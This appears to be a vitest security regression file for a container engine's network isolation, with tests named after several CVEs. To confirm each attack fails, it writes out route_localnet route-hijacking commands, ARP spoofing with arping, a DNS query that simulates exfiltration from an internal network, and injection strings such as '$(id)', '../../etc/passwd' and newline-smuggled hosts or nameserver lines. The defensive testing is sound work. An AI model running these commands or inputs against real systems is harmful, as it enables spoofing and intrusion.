/** Neighbours on the wire, other containers and hostile names: what networks keep apart stays apart. */
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type TestEngine } from '../helpers/engine.ts';
import { importNet, netProgram } from '../helpers/net.ts';
import { addressOf, address6Of, call, endpointOf, inNetworkOf, inspectNetwork, serve } from '../helpers/networks.ts';
import { missingPeers } from '../helpers/peers.ts';
import { until } from '../helpers/wait.ts';
import { client, makeWorld, type Host, type World } from '../helpers/world.ts';

let world: World;
let engine: TestEngine;
let peer: Host;
beforeAll(async () => {
  world = await makeWorld({ hosts: ['peer'], resolvers: ['192.0.2.2'] });
  engine = world.engine();
  peer = world.host('peer');
  await importNet(engine);
  for (const name of ['front', 'back']) await engine.ok('network', 'create', '--ipv6', name);
  for (const name of ['bridge', 'front', 'back']) await engine.ok('run', '--rm', '--network', name, 'net', 'true');
});
afterEach(async () => {
  await peer.stop();
  await world.machine.stop();
  await engine.removeContainers();
});
afterAll(async () => {
  expect(await world.close()).toEqual([]);
});
const gatewayOf = async (name: string, network?: string): Promise<string> => (await endpointOf(engine, name, network)).Gateway;
const dig = it.skipIf(missingPeers('dig').length > 0);

describe('CVE-2020-8558: route_localnet', () => {
  it('opens nothing of the host\'s loopback to neighbours and containers', async () => {
    await world.machine.serve('tcp/81@127.0.0.1', 'udp/81@127.0.0.1');
    await serve(engine, 'server', ['--network', 'front', '-p', '127.0.0.1:8080:80'], 'tcp/80');
    await serve(engine, 'attacker', ['--network', 'front', '--cap-add', 'NET_ADMIN'], 'tcp/82');
    // both send packets for 127.0.0.1 to the machine
    const crafted = (via: string, device: string): string => `sysctl -qw net.ipv4.conf.all.route_localnet=1 net.ipv4.conf.${device}.route_localnet=1
      ip route del local 127.0.0.0/8 dev lo table local; ip route del local 127.0.0.1 dev lo table local; ip route add 127.0.0.1/32 via ${via} dev ${device}`;
    const gateway = await gatewayOf('attacker', 'front');
    await inNetworkOf(engine, 'attacker', 'sh', '-ec', `${crafted(gateway, 'eth0')} src ${await addressOf(engine, 'attacker', 'front')}`);
    await peer.sh(`${crafted(peer.machine, 'eth0')} src ${peer.address}`);
    try {
      for (const port of [81, 8080]) {
        expect(await peer.call('tcp', '127.0.0.1', port, { timeout: 700 }), `peer ${port}`).toBe('connect: ETIMEDOUT');
        expect(await inNetworkOf(engine, 'attacker', 'sh', '-c', `${netProgram()} call -t 700 tcp 127.0.0.1 ${port} 2>&1 || true`), `container ${port}`).toBe('connect: ETIMEDOUT');
      }
      expect(await peer.call('udp', '127.0.0.1', 81, { text: 'x', timeout: 700 })).toBe('recv: ETIMEDOUT');
    } finally {
      await peer.sh('ip route del 127.0.0.1/32; ip route add local 127.0.0.0/8 dev lo table local; ip route add local 127.0.0.1 dev lo table local');
    }
    expect(await world.machine.call('tcp', '127.0.0.1', 8080)).toMatch(/ server$/);
  });
});

describe('CVE-2025-54388, CVE-2025-54410: a reload of the firewall', () => {
  it.each(['nft flush ruleset', 'iptables -P FORWARD ACCEPT; nft flush ruleset; nft add table inet firewalld', 'nft delete table inet "$TABLE"'])('%s: networks, hosts and loopback are kept apart as before', async (reload) => {
    await serve(engine, 'on-front', ['--network', 'front', '-p', '127.0.0.1:8080:80'], 'tcp/80');
    await serve(engine, 'on-back', ['--network', 'back'], 'tcp/80');
    await serve(engine, 'default', [], 'tcp/80');
    const [front, back, back6, plain] = [await addressOf(engine, 'on-front', 'front'), await addressOf(engine, 'on-back', 'back'), await address6Of(engine, 'on-back', 'back'), await addressOf(engine, 'default')];
    const rules = async (): Promise<string> => (await world.machine.exec(['nft', '-s', 'list', 'table', 'inet', engine.instance])).stdout;
    const before = await rules();
    expect(before).not.toBe('');
    await world.machine.sh(`TABLE=${engine.instance}; ${reload}`);
    await until('the rules to be back', async () => (await rules()).length === before.length);
    const closed = /^connect: (ETIMEDOUT|ECONNREFUSED|EHOSTUNREACH)$/;
    for (const to of [front, back, plain]) expect(await peer.call('tcp', to, 80, { timeout: 700 }), `from outside to ${to}`).toMatch(closed);
    expect(await peer.call('tcp', back6, 80, { timeout: 700 })).toMatch(closed);
    expect(await peer.call('tcp', peer.machine, 8080, { timeout: 700 })).toMatch(closed);
    for (const to of [back, back6, plain]) expect(await call(engine, 'on-front', 'tcp', to, 80), `from front to ${to}`).toMatch(closed);
    expect(await world.machine.call('tcp', '127.0.0.1', 8080)).toMatch(/ on-front$/);
    await world.machine.sh('nft delete table inet firewalld 2>/dev/null || true; nft list tables | grep -v engine- | while read -r t; do nft delete $t; done');
  });
});

describe('CVE-2021-20199: whom the server takes a client for', () => {
  it('nobody from outside is ever 127.0.0.1, ::1 or the gateway', async () => {
    await serve(engine, 'server', ['--network', 'front', '-p', '8080:80', '-p', '8080:80/udp'], 'tcp/80', 'udp/80');
    for (const protocol of ['tcp', 'udp'] as const) {
      expect(client(await peer.call(protocol, peer.machine, 8080, { text: 'x' }))).toBe(peer.address);
      expect(client(await peer.call(protocol, peer.machine6, 8080, { text: 'x' }))).toBe(peer.address6);
      // not even the host itself
      for (const to of ['127.0.0.1', '::1']) expect(client(await world.machine.call(protocol, to, 8080, { text: 'x' })), `${protocol} ${to}`).not.toMatch(/^(127\.|::1$)/);
    }
  });
});

describe('CVE-2020-13401: a container as router', () => {
  it('nobody takes router advertisements from it', async () => {
    await serve(engine, 'server', ['--network', 'front'], 'tcp/80');
    await serve(engine, 'plain', [], 'tcp/80');
    const bridges = (await world.machine.sh('ip -o link show type bridge')).split('\n').map((line) => /^\d+: ([^:@]+)/.exec(line)?.[1] ?? '');
    expect(bridges.length).toBeGreaterThanOrEqual(3);
    for (const bridge of bridges) expect(await world.machine.sh(`cat /proc/sys/net/ipv6/conf/${bridge}/accept_ra`), bridge).toBe('0');
    expect(await engine.ok('exec', 'server', 'cat', '/proc/sys/net/ipv6/conf/eth0/accept_ra')).toBe('0');
  });
});

describe('spoofing', () => {
  it('a container changes neither its address nor its links, routes and sysctls', async () => {
    await engine.ok('run', '-d', '--name', 'attacker', '--network', 'front', 'net');
    for (const command of ['ip address add 10.1.2.3/24 dev eth0', 'ip link set eth0 address 02:00:00:00:00:01', 'ip link set eth0 down', 'ip route replace default dev eth0', 'echo 1 > /proc/sys/net/ipv4/ip_forward', 'ip neigh add 10.1.2.3 lladdr 02:00:00:00:00:01 dev eth0'])
      expect((await engine.run(['exec', 'attacker', 'sh', '-c', command])).code, command).not.toBe(0);
  });
  it('one that may change them gets no traffic of another network, and none of the host\'s published ports', async () => {
    await serve(engine, 'server', ['--network', 'back', '-p', '8080:80'], 'tcp/80');
    await serve(engine, 'attacker', ['--network', 'front', '--cap-add', 'NET_ADMIN'], 'tcp/80', 'tcp/8080');
    const server = await addressOf(engine, 'server', 'back');
    const gateway = await gatewayOf('attacker', 'front');
    await engine.ok('exec', 'attacker', 'sh', '-c', `ip address add ${server}/32 dev eth0; ip address add ${peer.machine}/32 dev eth0; ip address add ${peer.address}/32 dev eth0`);
    for (let i = 0; i < 3; i++) await engine.run(['exec', 'attacker', 'arping', '-c', '1', '-U', '-I', 'eth0', '-s', server, gateway]);
    expect(await world.machine.call('tcp', server, 80)).toMatch(/ server$/);
    expect(await peer.call('tcp', peer.machine, 8080)).toMatch(/ server$/);
    // what it sends as somebody of another network does not come back to it, nor get there
    for (const source of [server, peer.address, '127.0.0.1'])
      expect(await inNetworkOf(engine, 'attacker', 'sh', '-c', `${netProgram()} call -t 700 -s ${source} tcp ${server === source ? gateway : server} 80 2>&1 || true`), source).not.toMatch(/ (server|machine)$/);
  });
});

describe('names', () => {
  dig('of another network are not told: not by name, not by address, not by the other\'s gateway; CVE-2024-29018: an internal network asks nobody outside', async () => {
    const asked = await peer.serveNames({ address: peer.address, records: {} });
    await engine.ok('run', '-d', '--name', 'hidden', '--network', 'back', 'net');
    await engine.ok('run', '-d', '--name', 'attacker', '--network', 'front', 'net');
    const [hidden, own, other] = [await addressOf(engine, 'hidden', 'back'), await gatewayOf('attacker', 'front'), await gatewayOf('hidden', 'back')];
    const ask = (container: string, server: string, ...question: string[]): Promise<string> => inNetworkOf(engine, container, 'dig', `@${server}`, '+short', '+tries=1', '+time=1', ...question).catch(() => '');
    expect(await ask('attacker', own, 'attacker', 'A')).toBe(await addressOf(engine, 'attacker', 'front'));
    for (const server of [own, other]) for (const question of [['hidden', 'A'], ['-x', hidden], ['hidden', 'ANY'], ['version.bind', 'TXT', 'CH'], ['.', 'AXFR']]) expect(await ask('attacker', server, ...question), `${server} ${question.join(' ')}`).not.toMatch(/hidden|^10\.|^172\./m);
    await engine.ok('network', 'create', '--internal', 'inner');
    await engine.ok('run', '-d', '--name', 'inside', '--network', 'inner', 'net');
    const server = /^nameserver (\S+)/m.exec(await engine.ok('exec', 'inside', 'cat', '/etc/resolv.conf'))?.[1] ?? '';
    await ask('inside', server, 'secret.exfiltrated.example', 'A');
    await ask('inside', server, '+tcp', 'secret.exfiltrated.example', 'TXT');
    expect(asked.stdout).not.toContain('exfiltrated');
    expect(await ask('inside', server, 'inside', 'A')).toBe(await addressOf(engine, 'inside', 'inner'));
    await engine.ok('rm', '-f', 'inside');
    await engine.ok('network', 'rm', 'inner');
  });
  dig('are told to nobody outside, and no answer is much larger than its question', async () => {
    for (let i = 0; i < 30; i++) await engine.ok('run', '-d', '--network', 'front', '--network-alias', 'crowd', 'net');
    await engine.ok('run', '-d', '--name', 'asks', '--network', 'front', 'net');
    const gateway = await gatewayOf('asks', 'front');
    for (const to of [gateway, peer.machine]) expect((await peer.exec(['dig', `@${to}`, '+tries=1', '+time=1', 'crowd', 'A'])).stdout).not.toMatch(/crowd\.\s+\d+\s+IN\s+A/);
    const sizes = await Promise.all([['crowd', 'A', '+noedns'], ['crowd', 'ANY', '+noedns'], ['crowd', 'A', '+bufsize=65000']].map(async (question) => Number(/MSG SIZE +rcvd: (\d+)/.exec(await inNetworkOf(engine, 'asks', 'dig', `@${gateway}`, '+notcp', '+ignore', '+tries=1', '+time=2', ...question))?.[1])));
    expect(sizes[0]).toBeLessThanOrEqual(512);
    expect(sizes[1]).toBeLessThanOrEqual(512);
    expect(sizes[2]).toBeLessThanOrEqual(1232);
    // all of them by TCP
    expect((await inNetworkOf(engine, 'asks', 'dig', `@${gateway}`, '+tcp', '+short', 'crowd', 'A')).split('\n').length).toBe(30);
  }, 240_000);
  it('that are made to hurt reach no file and no hosts line: they are refused in one line', async () => {
    const hostile = ['../../etc/passwd', '..', '.', 'a/b', 'a\nb', '10.0.0.1 evil', 'a\n10.0.0.1 evil', '-x', '--rm', '', ' ', 'a b', 'a\tb', '$(id)', 'x'.repeat(300), '\u001b[31m', 'a\u0001b'];
    for (const name of hostile) {
      const made = await engine.run(['network', 'create', '--', name]);
      expect([name, made.code === 0]).toEqual([name, false]);
      expect(made.stderr.trimEnd().split('\n').length, JSON.stringify(made.stderr)).toBeLessThanOrEqual(3);
    }
    for (const alias of hostile) {
      const { code, stdout } = await engine.run(['run', '--rm', '--network', 'front', `--network-alias=${alias}`, 'net', 'cat', '/etc/hosts', '/etc/resolv.conf']);
      if (code === 0) expect(stdout, JSON.stringify(alias)).not.toMatch(/evil|passwd|\u001b/);
    }
    for (const flag of ['--hostname=a\n10.0.0.1 evil', '--add-host=a\n10.0.0.1 evil:10.0.0.2', '--add-host=a:10.0.0.2\n10.0.0.1 evil', '--dns=10.0.0.1\nnameserver 10.6.6.6', '--dns-search=a\nnameserver 10.6.6.6', '--dns-option=a\nnameserver 10.6.6.6', '--domainname=a\n10.0.0.1 evil']) {
      const { code, stdout } = await engine.run(['run', '--rm', '--network', 'front', flag, 'net', 'cat', '/etc/hosts', '/etc/resolv.conf']);
      if (code === 0) expect(stdout, JSON.stringify(flag)).not.toMatch(/^(10\.0\.0\.1 evil|nameserver 10\.6\.6\.6)/m);
    }
    for (const option of ['com.docker.network.bridge.name=../x', 'com.docker.network.bridge.name=a b', 'com.docker.network.bridge.name=lo', 'com.docker.network.bridge.name=eth0;reboot', `com.docker.network.bridge.name=${peer.link}`, 'com.docker.network.bridge.name=waytoolongforalink', 'mtu=1', 'mtu=1e9', 'icc=maybe'])
      expect((await engine.run(['network', 'create', '--opt', option, 'wrong'])).code, option).not.toBe(0);
    expect((await engine.ok('network', 'ls', '--format', '{{.Name}}')).split('\n').sort()).toEqual(expect.not.arrayContaining(['wrong']));
    expect(await world.machine.sh(`ip -o link show ${peer.link}`)).not.toContain('master');
  }, 240_000);
});

describe('what a network\'s containers find of the host', () => {
  it('the keeper and the engine listen on gateways for names alone', async () => {
    await engine.ok('run', '-d', '--name', 'looks', '--network', 'front', 'net');
    const gateway = await gatewayOf('looks', 'front');
    const listening = (await world.machine.ok('ss', '-Hlntup')).split('\n').filter((line) => line.includes(gateway) || /0\.0\.0\.0:|\*:|\[::\]:/.test(line)).map((line) => line.trim().split(/\s+/));
    for (const [, , , , local = ''] of listening) expect(local).toMatch(/:53$/);
    expect((await inspectNetwork(engine, 'front')).IPAM.Config.some(({ Gateway }) => Gateway === gateway)).toBe(true);
  });
});
